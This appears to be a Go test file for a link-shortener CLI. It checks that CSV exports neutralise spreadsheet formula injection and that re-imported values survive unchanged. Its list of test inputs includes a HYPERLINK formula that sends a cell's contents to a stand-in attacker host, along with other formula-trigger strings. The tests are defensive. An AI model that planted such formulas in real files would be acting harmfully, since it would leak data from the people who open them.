package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	client "github.com/linkreel/linkreel/libs/clients/go"
	"github.com/linkreel/linkreel/libs/clients/go/linktable"
)

var nasty = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+1+1", "-2", "@SUM(A1)", "\t=1", "  =1", "\u00a0=1", "\r=1", "\ufeff=1", "＝1+1",
	"'=1", "''=1", "'tis the season", "'", "''", "' =1", "'\t", "1=1", "plain", "", "a,b\"c\nd", "=1\n=2",
}

// Users open exports in spreadsheets, and the titles may come from strangers.
func TestExportedTablesRunNoFormulas(t *testing.T) {
	t.Parallel()
	for _, title := range nasty {
		for name, cell := range map[string]string{"title": exportRow(exportedLink{LinkSummary: client.LinkSummary{Title: title}})[3], "tags": exportRow(exportedLink{LinkSummary: client.LinkSummary{Tags: []string{title}}})[9]} {
			if first := strings.TrimSpace(strings.TrimPrefix(cell, "\ufeff")); first != "" && strings.ContainsAny(first[:1], "=+-@") || strings.HasPrefix(first, "＝") {
				t.Errorf("the %s %q is exported as %q", name, title, cell)
			}
			if got := linktable.PlainCell(cell); got != title {
				t.Errorf("the %s %q is imported as %q", name, title, got)
			}
		}
	}
}

func TestExportedTablesAreImportedAsTheyWere(t *testing.T) {
	t.Parallel()
	var table bytes.Buffer
	w := csv.NewWriter(&table)
	if err := w.Write(exportColumns); err != nil {
		t.Fatal(err)
	}
	for i, title := range nasty {
		external := fmt.Sprintf("=%d", i)
		if err := w.Write(exportRow(exportedLink{LinkSummary: client.LinkSummary{
			ID: "lnk_1", Slug: fmt.Sprint("s", i), DestinationURL: "https://example.com", Title: title, ExternalID: &external,
		}})); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	s := &scripted{answers: map[string]string{"GET /api/v1/domains": `{"data":[]}`, "POST /api/v1/links/bulk": `{"results":[]}`}}
	s.run(t, "", "links", "import", file(t, "links.csv", table.String()))
	var sent struct {
		URLs []struct{ Title, ExternalID string }
	}
	_, body, _ := strings.Cut(s.asked[len(s.asked)-1], "/bulk ")
	if err := json.Unmarshal([]byte(body), &sent); err != nil || len(sent.URLs) != len(nasty) {
		t.Fatalf("the import sent %[2]s, want all rows (%[1]v)", err, body)
	}
	for i, title := range nasty {
		if got := sent.URLs[i]; got.Title != title || got.ExternalID != fmt.Sprintf("=%d", i) {
			t.Errorf("title %q is imported as %q with external ID %q, want both unchanged", title, got.Title, got.ExternalID)
		}
	}
}
